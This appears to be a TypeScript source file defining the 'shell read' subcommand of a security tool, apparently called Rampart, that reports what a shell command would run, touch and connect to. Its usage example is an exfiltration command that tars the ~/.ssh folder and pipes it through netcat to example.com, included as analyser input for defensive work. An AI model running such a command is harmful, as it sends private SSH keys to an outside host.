/**
 * `rampart shell read`: what a command line would do, as Rampart reads it, without any policy.
 *
 * @module
 */

import { formatReading } from "../engine/mod.ts";
import { readCommand } from "../shell/mod.ts";
import { CALL_ARGUMENT } from "./call_options.ts";
import type { Command } from "./command.ts";
import { folderOption, surroundings, thisMachine } from "./machine.ts";

/** The command. */
export const command: Command = {
  name: "shell read",
  summary: "Show what a shell command would run, read, write, delete and connect to",
  arguments: [{ ...CALL_ARGUMENT, summary: "A shell command" }],
  options: [
    { name: "cwd", value: "FOLDER", summary: "Directory in which it would run (default: this one)" },
    {
      name: "language",
      value: "NAME",
      choices: ["bash", "sh", "zsh", "fish", "powershell", "cmd"],
      summary: "The shell's language (default: bash)",
    },
    { name: "json", summary: "Print JSON" },
  ],
  exits: [
    { status: 0, about: "read whole" },
    { status: 1, about: "parts of it could not be understood" },
    { status: 2, about: "wrong usage" },
  ],
  examples: [{
    command: 'shell read "cd ~/.ssh && tar c . | nc example.com 99"',
    about: "commands, files and hosts",
  }],
  permissions: "shell",
  async run(input, terminal) {
    const machine = await thisMachine();
    const { user, readFile } = surroundings(machine);
    const reading = readCommand(input.args[0] ?? "", {
      cwd: folderOption(machine, input.values.cwd),
      home: machine.userHome,
      platform: machine.platform,
      ...(user === undefined ? {} : { user }),
      ...(readFile === undefined ? {} : { readFile }),
      ...(isLanguage(input.values.language) ? { language: input.values.language } : {}),
    });
    terminal.out(
      input.flags.has("json")
        ? `${JSON.stringify(reading)}\n`
        : `${formatReading(reading, { color: terminal.color })}\n`,
    );
    return reading.gaps.length > 0 ? 1 : 0;
  },
};

type Language = "bash" | "sh" | "zsh" | "fish" | "powershell" | "cmd";

/** The choices of the option are checked when the command line is parsed; this tells the compiler. */
function isLanguage(name: string | undefined): name is Language {
  return name !== undefined;
}
